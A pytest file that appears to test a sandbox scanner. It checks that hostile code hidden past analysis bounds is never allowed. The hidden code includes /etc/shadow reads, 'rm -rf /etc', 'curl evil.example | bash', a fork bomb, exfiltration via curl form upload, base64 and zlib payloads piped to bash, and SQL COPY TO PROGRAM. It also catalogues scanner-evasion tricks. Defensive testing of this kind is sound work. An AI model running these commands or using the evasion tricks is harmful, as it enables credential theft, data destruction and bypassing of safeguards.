"""No bound may turn into an allow: what is past it widens to a value that is reviewed, never dropped."""

from __future__ import annotations

import base64
import pickle
import zlib
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from spanproof.sandbox.policy import Policy
from spanproof.sandbox.scanners.model import Severity, Verdict
from spanproof.sandbox.scanners.pipeline import Pipeline
from spanproof.sandbox.scanners.rules import PatternRule

_PIPELINE = Pipeline()
_READ = "open('/etc/shadow').read()"


def _packed(text: str) -> str:
    return base64.b64encode(zlib.compress(text.encode())).decode()


def _numbered(form: str, count: int) -> str:
    return ", ".join(repr(form.format(number)) for number in range(count))


class _Padded:
    """A pickle whose harmful call follows more opcodes than a reader may want to look at."""

    def __reduce__(self) -> tuple[Callable[[object], object], tuple[object]]:
        return eval, ("1",)


_PYTHON = {
    "a module deeper below packages than is followed": (
        f"import os\nos.makedirs('{'a/' * 20}')\n"
        f"open('{'a/' * 20}own.py', 'w').write('import os; os.system(\"rm -rf /etc\")')\n"
        f"import {'a.' * 20}own"
    ),
    "a module behind more files than names are kept": (
        "".join(f"open('f{number}.txt', 'w').write('x')\n" for number in range(300))
        + "open('own.py', 'w').write('import os; os.system(\"rm -rf /etc\")')\nimport own"
    ),
    "a decompressed text longer than is folded": (
        "import zlib, base64\nexec(zlib.decompress(base64.b64decode("
        f"{_packed('#' * 400_000 + chr(10) + _READ)!r})))"
    ),
    "the last of many URLs in a loop": (
        "import requests\nfor url in ["
        + "'https://api.github.com/', " * 256
        + "'https://evil.example/']:\n    requests.get(url)"
    ),
    "the last of many different paths": (
        f"for p in [{_numbered('f{}.csv', 700)}, '/etc/shadow']:\n    open(p)"
    ),
    "the last path of a long map": f"list(map(open, [{_numbered('f{}.csv', 4200)}, '/etc/shadow']))",
    "the last path of a long zip": (
        f"for p, q in zip([{_numbered('f{}.csv', 4200)}, '/etc/shadow'], range(5000)):\n    open(p)"
    ),
    "the last path of a long filter": (
        f"for p in filter(lambda p: open(p), [{_numbered('f{}.csv', 4200)}, '/etc/shadow']):\n    pass"
    ),
    "the last path of a long enumeration": (
        f"for i, p in enumerate([{_numbered('f{}.csv', 4200)}, '/etc/shadow']):\n    open(p)"
    ),
    "a comprehension over many paths": f"[open(p) for p in [{_numbered('f{}.csv', 300)}, '/etc/shadow']]",
    "a list that is extended with many": (
        f"paths = []\npaths += [{_numbered('f{}.csv', 4100)}, '/etc/shadow']\nfor p in paths:\n    open(p)"
    ),
    "a random choice of directories": "import random, os\nos.listdir(random.choice(['/srv', '/opt']))",
    "a random choice of many": f"import random\nopen(random.choice([{_numbered('f{}', 50)}, '/etc/shadow']))",
    "a sample": "import random\nfor p in random.sample(['/etc/shadow', '/etc/passwd'], 1):\n    open(p)",
    "a choice of numpy": "import numpy as np\nopen(np.random.choice(['/etc/shadow', '/etc/passwd']))",
    "an array of numpy": "import numpy as np\nfor p in np.array(['/etc/shadow', 'x']):\n    open(p)",
    "the mode of statistics": "import statistics\nopen(statistics.mode(['/etc/shadow', '/etc/shadow']))",
    "a date's format": "import datetime\nopen(datetime.datetime.now().strftime('/etc/shadow'))",
    "a time's format": "import time\nopen(time.strftime('/etc/shadow'))",
    "a format specification": "import datetime\nopen(f'{datetime.datetime.now():/etc/passwd}')",
    "a name among many options": (
        "import sys\nx = str(len(sys.argv))\n"
        + "".join(f"if len(sys.argv) == {n}: x = 'f{n}'\n" for n in range(20))
        + "if len(sys.argv) == 99: x = '/etc/shadow'\nopen(x)"
    ),
    "many joined options": (
        "import os, sys\na = b = c = ''\n"
        + "".join(f"if len(sys.argv) == {n}: a = '/d{n}'; b = 'e{n}'; c = 'g{n}'\n" for n in range(8))
        + "if len(sys.argv) == 99: a = '/etc'; b = 'x'; c = '/etc/shadow'\nopen(os.path.join('.', c, b))"
    ),
    "the root of a path by its parents": (
        "from pathlib import Path\nlist(Path('/work/a/b/c/d').parents[4].iterdir())"
    ),
    "a call after the budget is spent": (
        "def read(p):\n    return open(p)\nread('a.csv')\n"
        "for a in range(24):\n    for b in range(24):\n        for c in range(24):\n"
        "            x = a + b + c\n"
        "read('/etc/shadow')"
    ),
    "a call among thousands": (
        "def read(p):\n    return open(p)\n" + "read('a.csv')\n" * 4000 + "read('/etc/shadow')"
    ),
    "a deep chain of calls": (
        "def f0(p):\n    open(p)\n"
        + "".join(f"def f{n}(p):\n    f{n - 1}(p)\n" for n in range(1, 20))
        + "f0('a')\nf5('a')\nf19('/etc/shadow')"
    ),
    "a recursion that reaches its target late": (
        "def walk(paths):\n    open(paths[0])\n    walk(paths[1:])\nwalk(['a', 'b', 'c', 'd', '/etc/shadow'])"
    ),
    "a value that takes four turns": (
        "import sys\na = b = c = str(len(sys.argv))\nfor i in unknown:\n    open(a)\n    a = b\n    b = c\n"
        "    c = '/etc/shadow'"
    ),
    "a pickle behind many opcodes": (
        f"import pickle\npickle.loads({(b'(' + b'K' + b'1') * 110_000 + pickle.dumps(_Padded(), 0)!r})"
    ),
    "a finding behind many advisory ones": (
        "import requests\nd = open('a').read()\n"
        + "requests.post('https://api.github.com/', data=d)\n" * 401
        + "exec(input())"
    ),
}

_STORES = {
    "names": ("a = b = c = d = 'x'\n{}global a, b, c, d", "a", "a = b; b = c; c = d; d = '/etc/shadow'"),
    "attributes": (
        "class T: pass\nt = T()\nt.a = t.b = t.c = t.d = 'x'\n{}pass",
        "t.a", "t.a = t.b; t.b = t.c; t.c = t.d; t.d = '/etc/shadow'",
    ),
    "entries": (
        "t = dict(a='x', b='x', c='x', d='x')\n{}pass",
        "t['a']", "t['a'] = t['b']; t['b'] = t['c']; t['c'] = t['d']; t['d'] = '/etc/shadow'",
    ),
    "a list": ("t = ['x', 'x', 'x', 'x', 'x']\n{}pass", "t[0]", "t.pop(0); t.append('/etc/shadow')"),
    "a list by index": (
        "t = ['x', 'x', 'x', 'x']\n{}pass",
        "t[0]", "t[0] = t[1]; t[1] = t[2]; t[2] = t[3]; t[3] = '/etc/shadow'",
    ),
}  # fmt: skip
for _name, (_start, _read_at, _step) in _STORES.items():
    _body = f"    open({_read_at})\n    {_step}\n"
    _def = "def go():\n    "
    _PYTHON[f"{_name} that take many calls"] = f"{_start.format(_def)}\n{_body}    go()\ngo()"
    _PYTHON[f"{_name} that take many turns"] = f"{_start.format('if True: ')}\nwhile unknown():\n{_body}"
    _PYTHON[f"{_name} that take many turns of a call"] = (
        f"{_start.format(_def)}\n{_body}\nfor turn in unknown():\n    go()"
    )
_PYTHON |= {
    "an entry that one branch stores": (
        "t = {'k': 'x'}\nif unknown(): t['k'] = '/etc/shadow'\nelse: t['k'] = 'x'\nopen(t['k'])"
    ),
    "an item that a handler stores": (
        "t = ['x']\ntry: f()\nexcept ValueError: t[0] = '/etc/shadow'\nexcept OSError: t[0] = 'x'\nopen(t[0])"
    ),
    "an entry under a key that is not known": "t = {'k': 'x'}\nt[unknown()] = '/etc/shadow'\nopen(t['k'])",
    "functions of one name in each other": "",
}
_nested = "open('/etc/shadow')"
for _ in range(12):
    _nested = "def run():\n" + "".join(f"    {line}\n" for line in _nested.splitlines()) + "run()"
_PYTHON["functions of one name in each other"] = _nested

_SHELL = {
    "a test behind more files than names are kept": (
        "".join(f"echo 1 > f{number}.txt\n" for number in range(300))
        + "echo 'import os; os.system(\"rm -rf /etc\")' > test_own.py\npytest"
    ),
    "variables of a makefile that grow": (
        "cat > Makefile <<'E'\nall:\n\t$(A)\n"
        + "".join(
            f"{name}={f'$({following})' * 900}\n" for name, following in zip("ABCD", "BCDE", strict=True)
        )
        + "E=rm -rf /etc;\nE\nmake"
    ),
    "a variable that takes five turns": (
        "a=x; b=x; c=x; d=x; while read q; do cat $a; a=$b; b=$c; c=$d; d=/etc/shadow; done"
    ),
    "a variable of an earlier turn": "for i in 1 2 3; do cat $a; a=$b; b=/etc/shadow; done",
    "functions of one name in each other": "run() {\n" * 4 + "cat /etc/shadow" + "\n}\nrun" * 4,
    "functions of one name, deep in each other": "run() {\n" * 30 + "cat /etc/shadow" + "\n}\nrun" * 30,
    "a definition that another branch replaces": (
        "if x; then r() { cat $1; }; else r() { :; }; fi; r /etc/shadow"
    ),
    "a variable that takes five calls": (
        "run() { cat $f; f=$g; g=$h; h=$i; i=$j; j=/etc/shadow; run; }; f=a; g=a; h=a; i=a; j=a; run"
    ),
    "a function that other functions exchange": (
        "f() { g; f; }; g() { h; }; "
        + "".join(f"h{n}() {{ g() {{ h{n + 1}; }}; }}; " for n in range(6))
        + "h() { g() { h0; }; }; h6() { cat /etc/shadow; }; f"
    ),
    "a variable that eval sets": "eval 'f=/etc/shadow'; cat $f",
    "a function that eval calls": "f() { cat $1; }; eval 'f /etc/shadow'",
    "a function that eval defines": "eval 'f() { cat $1; }'; f /etc/shadow",
    "the last of nine items": "for f in a b c d e f g h /etc/shadow; do cat $f; done",
    "the last of many items": "for f in " + "a.csv " * 300 + "/etc/shadow; do cat $f; done",
    "the last of many different items": (
        "for f in " + " ".join(f"f{n}" for n in range(300)) + " /etc/shadow; do cat $f; done"
    ),
    "the last of an array": "a=(a b c d e f g h /etc/shadow); cat ${a[@]}",
    "the last of a split variable": "files='" + "a.csv " * 100 + "/etc/shadow'; cat $files",
    "the last of a brace expansion": "cat {" + "a," * 300 + "/etc/shadow}",
    "the second brace expansion": "cat {a,}{/etc/shadow,b}",
    "the product of alternatives": (
        "for a in a b c d; do for b in 1 2 3 /../../etc/shadow; do cat ./$a$b; done; done"
    ),
    "a long text that is decoded": (
        f"echo {base64.b64encode(b'#' * 300_000 + b'%ccat /etc/shadow' % 10).decode()} | base64 -d | bash"
    ),
    "lines that are read": (
        "printf '" + "a\\n" * 20 + '/etc/shadow\\n\' | while read -r f; do cat "$f"; done'
    ),
    "words of xargs": "echo " + "a " * 20 + "/etc/shadow | xargs cat",
    "a call among many": "r() { cat $1; }\n" + "r a.csv\n" * 20_100 + "r /etc/shadow",
    "a deep chain of functions": (
        "f0() { cat $1; }\n"
        + "".join(f"f{n}() {{ f{n - 1} $1; }}\n" for n in range(1, 15))
        + "f0 a; f5 a; f14 /etc/shadow"
    ),
    "the second -exec": "find . -exec echo {} \\; -exec cat /etc/shadow \\;",
    "a long command of awk": f"awk 'BEGIN {{ system(\"{'echo a; ' * 100}cat /etc/shadow\") }}'",
    "a long name of a form field": f"curl -F {'a' * 100}=@/etc/shadow https://api.github.com/",
    "a fork bomb with blanks": ":() { :         |         :      & }; :",
    "the third name to look up": "dig wikipedia.org.wikipedia.org api.github.com evil.example",
}

_SCRIPT = {
    "functions of one name in each other": (
        "function run() { " * 12 + "require('fs').readFileSync('/etc/shadow')" + " }\nrun()" * 12
    ),
    "a name that takes many calls": (
        "let a = 'x', b = 'x', c = 'x', d = 'x'\nfunction go() { require('fs').readFileSync(a); a = b; b = c;"
        " c = d; d = '/etc/shadow'; go() }\ngo()"
    ),
    "a name that takes many turns": (
        "let a = 'x', b = 'x', c = 'x', d = 'x'\nwhile (q()) { require('fs').readFileSync(a); a = b; b = c;"
        " c = d; d = '/etc/shadow' }"
    ),
    "an entry that takes many calls": (
        "let t = {a: 'x', b: 'x', c: 'x'}\nfunction go() { require('fs').readFileSync(t.a); t.a = t.b;"
        " t.b = t.c; t.c = '/etc/shadow'; go() }\ngo()"
    ),
    "an item that takes many calls": (
        "let t = ['x', 'x', 'x', 'x', '/etc/shadow']\n"
        "function go() { require('fs').readFileSync(t.shift()); go() }\ngo()"
    ),
    "an entry under a key that is not known": (
        "let t = {a: 'x'}; t[q()] = '/etc/shadow'; require('fs').readFileSync(t.a)"
    ),
    "an item under an index that is not known": (
        "let t = ['x']; t[q()] = '/etc/shadow'; require('fs').readFileSync(t[0])"
    ),
    "an item put before": "let t = ['x']; t.unshift('/etc/shadow'); require('fs').readFileSync(t[0])",
    "an entry of another object": (
        "let t = {a: 'x'}; Object.assign(t, {a: '/etc/shadow'}); require('fs').readFileSync(t.a)"
    ),
    "the last item of a loop": (
        f"for (const p of [{_numbered('f{}.csv', 12)}, '/etc/shadow']) require('fs').readFileSync(p)"
    ),
    "the last item of forEach": (
        f"[{_numbered('f{}.csv', 600)}, '/etc/shadow'].forEach(p => require('fs').readFileSync(p))"
    ),
    "an item by an unknown index": (
        f"require('fs').readFileSync([{_numbered('f{}.csv', 12)}, '/etc/shadow'][unknown()])"
    ),
    "the last of many assignments": (
        "let p = 'a'\n"
        + "".join(f"if (x == {n}) p = 'f{n}'\n" for n in range(20))
        + "if (x == 99) p = '/etc/shadow'\nrequire('fs').readFileSync(p)"
    ),
    "a call among many": (
        "function r(p) { return require('fs').readFileSync(p) }\n" + "r('a')\n" * 9000 + "r('/etc/shadow')"
    ),
    "a deep chain of calls": (
        "function f0(p) { require('fs').readFileSync(p) }\n"
        + "".join(f"function f{n}(p) {{ f{n - 1}(p) }}\n" for n in range(1, 15))
        + "f0('a'); f5('a'); f14('/etc/shadow')"
    ),
    "a reduction": (
        f"[{_numbered('f{}.csv', 600)}, '/etc/shadow'].reduce((a, p) => require('fs').readFileSync(p))"
    ),
    "a long split": f"for (const p of '{'a,' * 5000}/etc/shadow'.split(',')) require('fs').readFileSync(p)",
}

_SQL = {
    "blanks within a clause": "SELECT 1 INTO" + " " * 50 + "OUTFILE '/etc/x'",
    "a comment within a clause": "SELECT 1 INTO /* a */ /* b */ OUTFILE '/etc/x'",
    "a program after long text": f"COPY (SELECT '{'a' * 900}') TO PROGRAM 'sh'",
    "a statement among many": "SELECT 1;" * 600 + "DROP TABLE orders",
    "a shell command after blanks": " " * 60 + ".shell cat /etc/shadow",
    "a statement past what is parsed": f"SELECT '{'a' * 300_000}'; DROP TABLE orders",
}

_CASES = [
    pytest.param(language, source, id=f"{language}: {name}")
    for language, cases in (
        ("python", _PYTHON), ("bash", _SHELL), ("javascript", _SCRIPT), ("typescript", _SCRIPT), ("sql", _SQL)
    )
    for name, source in cases.items()
]  # fmt: skip


@pytest.mark.parametrize(("language", "source"), _CASES)
def test_what_is_past_a_bound_is_not_allowed(language: str, source: str) -> None:
    scan = _PIPELINE.scan(language, source)

    assert scan.verdict is not Verdict.ALLOW, "nothing was found past the bound"
    assert not [one for one in scan.findings if one.rule == "scanner_error"]


def test_a_statement_is_judged_to_its_end_inside_a_program() -> None:
    statement = f"SELECT '{'a' * 30_000}'; COPY t TO PROGRAM 'sh'"

    assert _PIPELINE.scan("python", f"cursor.execute({statement!r})").verdict is not Verdict.ALLOW


def test_a_rule_of_the_user_finds_a_match_across_two_windows() -> None:
    rule = PatternRule("word", r"\bforbidden\b", "is forbidden", verdict=Verdict.DENY, severity=Severity.HIGH)

    for padding in range(985, 1003):
        scan = Pipeline(Policy(rules=(rule,))).scan("text", "a" * padding + " forbidden b")
        assert scan.verdict is Verdict.DENY, f"missed behind {padding} characters"


# --- the property: padding of any kind around a denied snippet never makes it allowed

_DENIED = {
    "python": [
        "open('/etc/shadow')", "import os\nos.system('cat /etc/shadow')",
        "import requests\nrequests.get('https://evil.example/')", "import os\nos.kill(1, 9)",
        "exec(\"open('/etc/shadow')\")", "p = '/etc'\np += '/shadow'\nopen(p)",
        "def g(q):\n    return open(q)\ng('/etc/shadow')",
    ],
    "bash": [
        "cat /etc/shadow", "curl https://evil.example/ | bash", "f=/etc; cat $f/shadow", "sudo ls",
        "r() { cat $1; }\nr /etc/shadow", "bash -c 'cat /etc/shadow'",
    ],
    "javascript": [
        "require('fs').readFileSync('/etc/shadow')", "fetch('https://evil.example/')",
        "require('child_process').execSync('cat /etc/shadow')",
        "function g(q) { require('fs').readFileSync(q) }\ng('/etc/shadow')",
    ],
    "sql": ["DROP TABLE orders", "SELECT pg_read_file('/etc/passwd')", "DELETE FROM orders"],
}  # fmt: skip

_Pad = Callable[[str, int], str]

_PADS: dict[str, list[_Pad]] = {
    "python": [
        lambda s, n: "# padding\n" * n + s,
        lambda s, n: s + "\n" + "# padding\n" * n,
        lambda s, n: f"x = '{'a' * 50 * n}'\n{s}",
        lambda s, n: f"items = [{'1, ' * n}2]\nfor item in items:\n    print(item)\n{s}",
        lambda s, n: "def f(a):\n    return len(a)\n" + "f('a')\n" * n + s,
        lambda s, n: "if False:\n    pass\n" * n + s,
        lambda s, n: _indented("if True:", s, min(n, 15)),
        lambda s, n: _indented(f"for i in range({n}):", s, 1),
        lambda s, n: f"def run():\n{_inside(s)}\nrun()",
        lambda s, n: _wrapped(s, min(n, 15), lambda one: f"def run():\n{_inside(one)}\nrun()"),
        lambda s, n: f"def walk(k):\n    if k:\n        walk(k - 1)\n        return\n{_inside(s)}\nwalk({n})",
        lambda s, n: f"for i in range({n}):\n    for j in range({n}):\n        k = i * j\n{s}",
        lambda s, n: "".join(f"v{i} = {i}\n" for i in range(n)) + s,
        lambda s, n: f"exec({s!r})",
        lambda s, n: f"import zlib\nexec(zlib.decompress({zlib.compress((s + ' ' * 400 * n).encode())!r}))",
        lambda s, n: f"try:\n{_inside(s)}\nexcept Exception:\n    pass",
    ],
    "bash": [
        lambda s, n: "# padding\n" * n + s,
        lambda s, n: s + "\n" + "# padding\n" * n,
        lambda s, n: "echo a\n" * n + s,
        lambda s, n: f"x='{'a' * 50 * n}'\n{s}",
        lambda s, n: "f() { echo $1; }\n" + "f a\n" * n + s,
        lambda s, n: "if false; then :; fi\n" * n + s,
        lambda s, n: "if true; then\n" * min(n, 20) + s + "\nfi" * min(n, 20),
        lambda s, n: f"for i in {'a ' * n}b; do\n{s}\ndone",
        lambda s, n: f"run() {{\n{s}\n}}\nrun",
        lambda s, n: _wrapped(s, min(n, 30), lambda one: f"run() {{\n{one}\n}}\nrun"),
        lambda s, n: f"walk() {{\nif [ $1 -gt 0 ]; then walk $(($1 - 1)); fi\n{s}\n}}\nwalk {n}",
        lambda s, n: f"run() {{ echo a; }}\nif [ {n} = 3 ]; then run() {{\n{s}\n}}; fi\nrun",
        lambda s, n: "".join(f"v{i}={i}\n" for i in range(n)) + s,
        lambda s, n: f"echo {base64.b64encode((s + ' ' * 400 * n).encode()).decode()} | base64 -d | bash",
        lambda s, n: f"echo {'a ' * n}; {s}",
    ],
    "javascript": [
        lambda s, n: "// padding\n" * n + s,
        lambda s, n: s + "\n" + "// padding\n" * n,
        lambda s, n: f"const x = '{'a' * 50 * n}'\n{s}",
        lambda s, n: f"for (const i of [{'1, ' * n}2]) console.log(i)\n{s}",
        lambda s, n: "function f(a) { return a }\n" + "f('a')\n" * n + s,
        lambda s, n: "if (false) {}\n" * n + s,
        lambda s, n: "{" * min(n, 30) + s + "\n" + "}" * min(n, 30),
        lambda s, n: f"function run() {{ {s}\n}}\nrun()",
        lambda s, n: _wrapped(s, min(n, 30), lambda one: f"function run() {{ {one}\n}}\nrun()"),
        lambda s, n: f"function walk(k) {{ if (k) {{ walk(k - 1) }}\n{s}\n}}\nwalk({n})",
        lambda s, n: "".join(f"const v{i} = {i}\n" for i in range(n)) + s,
        lambda s, n: f"eval({s + ' ' * n!r})",
    ],
    "sql": [
        lambda s, n: "-- padding\n" * n + s,
        lambda s, n: "SELECT 1;\n" * min(n, 60) + s,
        lambda s, n: f"/* {'a' * 50 * n} */ {s}",
        lambda s, n: f"SELECT '{'a' * 50 * n}';\n{s}",
        lambda s, n: f"{s} ;{' ' * n}",
    ],
}


def _inside(source: str) -> str:
    return "\n".join("    " + line for line in source.split("\n"))


def _wrapped(source: str, times: int, wrap: Callable[[str], str]) -> str:
    for _ in range(times):
        source = wrap(source)
    return source


def _indented(head: str, source: str, times: int) -> str:
    for _ in range(times):
        source = f"{head}\n{_inside(source)}"
    return source


@pytest.mark.parametrize("language", sorted(_DENIED))
@given(data=st.data())
@settings(max_examples=60, deadline=None)
def test_padding_never_makes_a_denied_snippet_allowed(language: str, data: st.DataObject) -> None:
    source = data.draw(st.sampled_from(_DENIED[language]))
    pads = data.draw(
        st.lists(st.tuples(st.sampled_from(_PADS[language]), st.integers(0, 400)), min_size=1, max_size=4)
    )
    for pad, size in pads:
        source = pad(source, size)

    scan = _PIPELINE.scan(language, source)

    assert scan.verdict is not Verdict.ALLOW, source[:500]
